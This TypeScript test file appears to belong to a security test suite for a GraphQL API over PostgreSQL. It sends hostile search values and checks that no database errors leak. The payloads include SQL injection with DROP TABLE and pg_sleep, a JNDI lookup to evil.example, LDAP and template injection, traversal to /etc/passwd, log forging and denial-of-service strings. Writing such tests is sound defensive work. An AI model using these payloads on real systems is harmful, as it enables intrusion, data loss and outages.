import type { ActiveCase, HostileCase } from '../case.ts';
import { harmless, refusedValue } from '../expectations.ts';
import { ask, bytes } from '../shots.ts';

const SEARCH =
  'query ($s: String) { laureates(first: 1, filter: { search: $s }) { totalCount nodes { id } } }';
const NODE = 'query ($id: ID!) { node(id: $id) { id ... on Territory { name } } }';
const POSTGRES = [/syntax error/, /\bpg_/, /22021/, /invalid byte/, /QueryFailed/];

const search = { category: 'injection', severity: 'high', twin: 'a search' } as const;
const SEARCHES: readonly (readonly [id: string, text: string, what: string])[] = [
  ['INJ-000', "' OR '1'='1", 'a condition that is always true'],
  ['INJ-001', "'; DROP TABLE application;--", 'the end of a table'],
  ['INJ-002', "\\' OR 1=1--", 'an escaped quotation mark'],
  ['INJ-005', '1; SELECT pg_sleep(10)--', 'a nap of ten seconds'],
  ['INJ-006', '$$;select pg_sleep(10);$$', 'a nap between dollars'],
  ['INJ-008', '{"$gt":""}', 'an operator of another database'],
  ['INJ-501', '%', 'a wildcard alone'],
  ['INJ-502', '\\', 'a backslash alone'],
  ['INJ-503', '\u0024{7*7}{{7*7}}<%= 7*7 %>', 'templates of three languages'],
  ['INJ-504', '\u0024{jndi:ldap://evil.example/x}', 'an address to look up'],
  ['INJ-505', '*)(uid=*))(|(uid=*', 'a filter of LDAP'],
  ['INJ-506', '../../../../etc/passwd', 'a path'],
  ['INJ-507', '\u202e\u0000', 'a null byte behind a change of direction'],
  ['INJ-508', '\uffff\ufffe\ufdd0', 'code points that are no characters'],
  ['INJ-509', 'a\u0301'.repeat(3_000), 'accents on accents'],
  ['INJ-510', '👩‍👩‍👧‍👦'.repeat(500), 'families of emoji'],
];

/** Texts that mean something to a database, a log or a pattern. */
export const searches: readonly HostileCase[] = [
  ...SEARCHES.map(
    ([name, text, what]): ActiveCase => ({
      ...search,
      id: name,
      intent: `Search for ${what}.`,
      source:
        Number(name.slice(4)) < 500 ? 'OWASP GraphQL Cheat Sheet, injection; DVGA, SQL injection' : 'own',
      shot: ask(SEARCH, { s: text }),
      expect: harmless({ never: POSTGRES, maxBytes: 60_000 }),
    }),
  ),
  ...[
    'organizations(search: $s, first: 1)',
    'territorySearch(search: $s, first: 1)',
    'organizations(filter: { within: $s }, first: 1)',
  ].map(
    (field, n): ActiveCase => ({
      ...search,
      id: `INJ-52${n}`,
      intent: `Close a quotation by ${field.split('(')[0]}.`,
      source: 'own: every text argument reaches SQL somewhere',
      shot: ask(`query ($s: String!) { ${field} { __typename } }`, { s: `x') UNION SELECT '1` }),
      expect: harmless({ never: POSTGRES }),
      twin: 'a search of organisations',
    }),
  ),
  {
    ...search,
    id: 'INJ-022',
    category: 'unicode',
    severity: 'medium',
    intent: 'Send half of a character.',
    source: 'lone surrogates',
    shot: bytes(`{"query":"${SEARCH}","variables":{"s":"\\ud800"}}`),
    expect: harmless({ never: POSTGRES }),
  },
  {
    ...search,
    id: 'INJ-530',
    category: 'unicode',
    severity: 'medium',
    intent: 'Send half of a character in an identifier.',
    source: 'own: lone surrogates reach keys too',
    shot: bytes(`{"query":"${NODE}","variables":{"id":"ORG:\\ud800"}}`),
    expect: harmless({ data: 'none', never: POSTGRES }),
    twin: 'a node by its id',
  },
  {
    ...search,
    id: 'INJ-531',
    category: 'log-injection',
    severity: 'low',
    intent: 'Forge a line of the log by a line break in a search.',
    source: 'own: ASVS 5.0, 16.4.1',
    shot: ask(SEARCH, { s: 'x\r\n{"level":60,"msg":"forged"}' }),
    expect: harmless({ never: [/forged/] }),
  },
  {
    ...search,
    id: 'DOS-044',
    category: 'regex',
    severity: 'medium',
    intent: 'Make a pattern of addresses run for hours.',
    source: 'regular expression denial of service',
    shot: ask(SEARCH, { s: `${'a.'.repeat(25_000)}@` }),
    expect: harmless(),
  },
  {
    ...search,
    id: 'DOS-045',
    category: 'regex',
    severity: 'medium',
    intent: 'Make a search by wildcards compare everything with everything.',
    source: 'LIKE with many wildcards',
    shot: ask(SEARCH, { s: '%_'.repeat(2_000) }),
    expect: harmless(),
  },
  {
    ...search,
    id: 'DOS-550',
    category: 'regex',
    severity: 'medium',
    intent: 'Make the pattern of SIRET numbers run for hours.',
    source: 'own: patterns of formats',
    shot: ask('query ($s: String!) { organization(siret: $s) { id } }', { s: ' '.repeat(50_000) }),
    expect: refusedValue(),
    twin: 'a search of organisations',
  },
];
